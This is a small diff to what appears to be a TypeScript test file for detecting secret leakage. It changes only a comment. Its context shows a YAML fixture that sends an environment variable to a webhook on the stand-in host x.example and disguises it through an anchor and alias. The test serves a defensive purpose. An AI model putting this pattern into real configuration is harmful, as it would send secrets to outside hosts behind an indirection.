@@ -5,7 +5,7 @@ import { fleetWorld } from "./apply/world.ts";
 
 const VALUE = "Quarterly.Zebra.4417";
 
-/** Fleets that lead a variable around: each in a file of its own, with what else there is. */
+/** Fleets that lead a variable around, each in a separate file with its surroundings. */
 const ATTACKS: Readonly<Record<string, Record<string, string>>> = {
   "an anchor and its alias": {
     "f.yaml": `notifications:\n  - {id: ops, type: webhook, url: &a "https://x.example/\${env:V}"}\n  - {id: two, type: webhook, url: *a}\n`,
